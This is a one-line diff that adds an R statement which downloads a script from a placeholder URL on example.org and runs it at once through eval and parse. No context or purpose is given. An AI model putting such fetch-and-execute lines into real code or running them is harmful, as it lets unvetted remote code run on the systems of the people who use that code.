@@ -1,0 +1,1 @@
+eval(parse(url("https://example.org/x.R")))
